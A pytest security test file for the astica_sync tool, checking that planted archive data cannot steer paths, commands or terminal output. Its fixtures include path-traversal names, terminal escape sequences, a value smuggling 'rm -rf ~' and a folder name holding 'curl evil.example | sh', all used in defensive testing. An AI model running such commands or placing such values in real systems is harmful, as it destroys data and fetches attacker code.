"""What lies in a store from an archive chooses no path, no command and no text on the terminal (promise 11)."""

import contextlib
import json
import os
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
import xxhash

from astica_sync.sandbox.embedded import RunningSandbox
from tests.harness.shell import Shell, draw
from tests.test_sqlite import plant_super_journal

pytestmark = pytest.mark.long

READING = [
    ("pull-status", "--offline"),
    ("pull-status",),
    ("push", "--dry-run"),
    ("log",),
    ("backup", "list"),
    ("backup", "verify"),
    ("snapshot", "list"),
    ("versions",),
    ("watch", "status"),
]


@pytest.mark.parametrize("name", ["journal.db", "index.db"])
@pytest.mark.parametrize("command", [("pull-status",), ("push",), ("log",), ("backup", "verify")], ids=" ".join)
def test_no_file_is_deleted_that_a_planted_rollback_journal_names(
    shell: Shell, pushed: Path, tmp_path: Path, command: tuple[str, ...], name: str
) -> None:
    letter = tmp_path / "letter"
    letter.write_text("mine")
    plant_super_journal(pushed / ".astica-sync" / name, letter)
    shell(*command, "--store", pushed)
    assert letter.read_text() == "mine"


@pytest.mark.parametrize("place", ["../secret", "Can/../../secret", "Can/./../../secret", "/"])
def test_a_planted_index_sends_no_file_from_outside_the_store(
    shell: Shell, sandbox: RunningSandbox, pushed: Path, tmp_path: Path, place: str
) -> None:
    secret = draw(tmp_path / "secret" / "private.png", 77)
    folder = str(secret.parent) if place == "/" else place
    content = xxhash.xxh3_128_hexdigest(secret.read_bytes())
    status = secret.stat()
    with contextlib.closing(sqlite3.connect(pushed / ".astica-sync/index.db")) as index, index:
        index.execute("INSERT INTO folder (id, path, class, mounted) VALUES (999, ?, 'Can', 0)", (folder.encode(),))
        index.execute(
            "INSERT INTO file VALUES (999, ?, ?, ?, ?, ?, ?, ?, NULL)",
            (b"private.png", status.st_size, status.st_mtime_ns, status.st_ctime_ns, status.st_ino, 2**62, content),
        )
    for command in (("pull-status",), ("push", "--yes"), ("backup", "verify")):
        shell(*command, "--store", pushed)
    assert secret.read_bytes() not in [
        sample.image for model, _ in sandbox.models() for sample in sandbox.samples(model)
    ]
    assert not list((pushed / ".astica-sync/backup/objects").glob(f"*/{content}*"))


@pytest.mark.parametrize(
    "snapshot", ["../../../secret", "/etc/passwd", "0" * 31, "\0" * 32, "G" * 32, "ab\n" + "0" * 29]
)
def test_a_planted_name_of_a_snapshot_is_no_path(shell: Shell, pushed: Path, snapshot: str) -> None:
    record = {"model_id": 1001, "version": "v\x1b[2J", "trained_at": 1e300, "seen_at": 1.0, "snapshot": snapshot}
    model_id = json.loads((pushed / ".astica-sync/store.json").read_text())["model_id"]
    with (pushed / ".astica-sync/backup/versions.jsonl").open("a") as file:
        file.write(json.dumps({**record, "model_id": model_id}) + "\n")
    before = set(pushed.parent.rglob("*"))
    for command in (
        ("versions",),
        ("versions", "--json"),
        ("snapshot", "list"),
        ("snapshot", "show", "@1"),
        ("snapshot", "restore", "@1", "--to", "out"),
    ):
        ran = shell(*command, "--store", pushed)
        assert "internal error" not in ran.err and "Traceback" not in ran.err
        assert "\x1b[2J" not in ran.out + ran.err
    found = {path for path in pushed.parent.rglob("*") if ".astica-sync" not in path.parts}
    # Refused commands are recorded in the user's state folder.
    assert {path for path in found if path.name != "errors.jsonl"} <= before


LINES: list[object] = [
    {"class": "Can", "path": "../x.png", "content": "0" * 32, "extension": "png", "size": 1},
    {"class": "Can", "path": "Can/x.png", "content": "../../x", "extension": "png", "size": 1},
    {"class": "Can", "path": "Can/x.png", "content": "0" * 32, "extension": "png", "size": 10**400},
    {"class": ["Can"], "path": {}, "content": "0" * 32, "extension": 1, "size": None},
    {"class": "Can", "uid": "x", "sample_id": "many"},
    {"class": "Can", "uid": "x", "sample_id": 1e999},
    {"uid": "x"},
    [1],
]


@pytest.mark.parametrize("line", LINES, ids=str)
def test_a_planted_manifest_is_damaged_or_writes_nothing(shell: Shell, pushed: Path, line: object) -> None:
    data = json.dumps(line).encode() + b"\n"
    name = xxhash.xxh3_128_hexdigest(data)
    folder = pushed / ".astica-sync/backup/snapshots"
    folder.mkdir(exist_ok=True)
    (folder / f"{name}.jsonl").write_bytes(data)
    out = pushed.with_name("out")
    for command in (
        ("list",),
        ("show", name[:8]),
        ("restore", name[:8], "--to", str(out)),
        ("diff", name[:8], name[:8]),
    ):
        ran = shell("snapshot", *command, "--store", pushed)
        assert "internal error" not in ran.err, ran.err
    assert [path for path in out.rglob("*") if path.is_file()] == []
    assert not (pushed.parent / "x.png").exists()


CATALOG: list[object] = [
    {"size": 10**400},
    {"size": -1},
    {"size": True},
    {"added_at": "9999-12-31T23:59:59Z"},
    {"added_at": 1e300},
    {"path": "Can/\x1b]0;owned\x07.png"},
    {"path": "Can/" + "x" * 10_000_000},
    {"class": "x" * 10_000_000},
    {"class": "Can\x9b31m", "path": "Can\x9b31m/a.png"},
]


@pytest.mark.parametrize("changed", CATALOG, ids=lambda changed: str(changed)[:30])
def test_a_planted_line_of_the_catalog_is_bounded(shell: Shell, pushed: Path, changed: dict[str, object]) -> None:
    catalog = pushed / ".astica-sync/backup/catalog.jsonl"
    line = json.loads(catalog.read_text().splitlines()[0])
    with catalog.open("a") as file:
        file.write(json.dumps({**line, **changed}) + "\n")
    for command in (("list",), ("list", "--json"), ("verify",), ("restore", "--class", "Can")):
        ran = shell("backup", *command, "--store", pushed)
        assert "internal error" not in ran.err, ran.err
        assert len(ran.out + ran.err) < 100_000
        assert (ran.out + ran.err).replace("\n", "").isprintable()


@pytest.mark.parametrize(
    "holder",
    [
        b"",
        b"[" * 100_000,
        b'{"pid": 1e999, "command": "x", "since": 1}',
        b'{"pid": 1, "command": "\\u001b[2J", "since": 1e300}',
        json.dumps({"pid": 1, "command": "x" * 10_000_000, "since": None}).encode(),
        b'{"pid": ' + b"9" * 3000 + b', "command": "x", "since": null}',
    ],
    ids=lambda holder: str(holder[:20]),
)
def test_a_planted_lock_holder_is_shown_safely(shell: Shell, pushed: Path, holder: bytes) -> None:
    from astica_sync.local.layout import Layout
    from astica_sync.local.lock import writer_lock

    with writer_lock(Layout(pushed)):
        (pushed / ".astica-sync/lock-holder.json").write_bytes(holder)
        ran = shell("push", "--store", pushed)
    assert ran.code == 1 and "is locked by" in ran.err
    assert len(ran.err) < 4000 and ran.err.replace("\n", "").isprintable()


@pytest.mark.parametrize("kind", ["link", "dangling link", "fifo", "device", "folder", "huge"])
@pytest.mark.parametrize("command", [("pull-status", "--offline"), ("push",)], ids=" ".join)
def test_settings_that_are_no_plain_file_are_refused_without_a_wait(
    shell: Shell, sandbox: RunningSandbox, pushed: Path, tmp_path: Path, kind: str, command: tuple[str, ...]
) -> None:
    file = pushed / "astica-sync.toml"
    (tmp_path / "secret").write_text("password = 'hunter2'")
    if kind == "fifo":
        os.mkfifo(file)
    elif kind == "folder":
        file.mkdir()
    elif kind == "huge":
        with file.open("wb") as opened:
            opened.truncate(2**40)
    else:
        file.symlink_to({"link": tmp_path / "secret", "dangling link": tmp_path / "none", "device": "/dev/zero"}[kind])
    ran = shell(*command, "--store", pushed)
    assert ran.code == 1 and "cannot read the settings file" in ran.err
    assert "hunter2" not in ran.out + ran.err
    assert sandbox.log == []


@pytest.mark.parametrize("command", READING, ids=" ".join)
def test_a_link_in_the_hidden_folder_is_found_by_every_command(
    shell: Shell, sandbox: RunningSandbox, pushed: Path, tmp_path: Path, command: tuple[str, ...]
) -> None:
    letter = tmp_path / "letter"
    letter.write_text("mine")
    (pushed / ".astica-sync/lock-holder.json").symlink_to(letter)
    ran = shell(*command, "--store", pushed)
    assert ran.code == 1 and "is a symbolic link" in ran.err
    assert letter.read_text() == "mine"
    assert sandbox.log == []


@pytest.mark.parametrize("safe_path", [True, False])
@pytest.mark.parametrize("module", ["click", "platformdirs", "filelock", "httpx", "json", "socket", "rich/__init__"])
def test_no_module_is_imported_from_the_current_folder(
    shell: Shell, pushed: Path, tmp_path: Path, module: str, safe_path: bool
) -> None:
    planted = pushed / f"{module}.py"
    planted.parent.mkdir(exist_ok=True)
    planted.write_text(f"open({str(tmp_path / 'ran')!r}, 'w')")
    command = [sys.executable, *(["-P"] if safe_path else []), "-m", "astica_sync", "pull-status"]
    environ = {name: value for name, value in os.environ.items() if not name.startswith(("ASTICA_", "PYTHON"))}
    ran = subprocess.run(command, cwd=pushed, env={**environ, **shell.environ}, capture_output=True, text=True)
    assert ran.returncode == 0, ran.stderr
    assert not (tmp_path / "ran").exists()


@pytest.mark.parametrize(
    "changed",
    [
        {"pid": "1; rm -rf ~ \x1b[2J"},
        {"since": "\x1b[2J"},
        {"queue": "9", "eta": "\x1b"},
        {"uploaded": 1e400},
        {"removed": True},
        {"next_try_at": [1]},
        {"waits": "abc"},
        {"refusals": [1]},
        {"errors": {"a": 1}},
        {"failures": {"a": "\x1b[2J"}},
        {"why": 5},
        {"state": ["idle"]},
        {"store": None},
        {"other": 1},
    ],
    ids=str,
)
@pytest.mark.parametrize("flags", [(), ("--json",)], ids=["text", "json"])
def test_a_planted_watch_status_is_no_status(
    shell: Shell, pushed: Path, changed: dict[str, object], flags: tuple[str, ...]
) -> None:
    from astica_sync.core.watch.watch_status import WatchStatus
    from astica_sync.local.layout import Layout
    from astica_sync.local.lock import watcher_lock

    data = WatchStatus(str(pushed), 5, 0.0).as_data() | changed
    (pushed / ".astica-sync/watch.json").write_text(json.dumps(data))
    with watcher_lock(Layout(pushed)):
        ran = shell("watch", "status", "--store", pushed, *flags)
    assert ran.code == 0 and ran.out.replace("\n", "").isprintable(), ran.out + ran.err
    assert ran.json["state"] is None if flags else "a watcher runs, and has written no status yet" in ran.out


@pytest.mark.parametrize(
    "name", ["wn\n  Run: curl evil.example | sh", "a\r\n  Fix: sh", "b\x0bc\x85d\u2028e", "f\x1b[2Jg"]
)
def test_the_name_of_a_folder_begins_no_line_of_a_message(shell: Shell, tmp_path: Path, name: str) -> None:
    folder = tmp_path / name
    folder.mkdir()
    for command in (("pull-status",), ("init",), ("push", "--dry-run")):
        ran = shell(*command, *([folder] if command == ("init",) else ["--store", folder]))
        assert ran.code != 0
        lines = ran.err.split("\n")
        assert all(line.isprintable() for line in lines), ran.err
        assert not [line for line in lines if line.strip().startswith(("Run: curl", "Fix: sh"))], ran.err
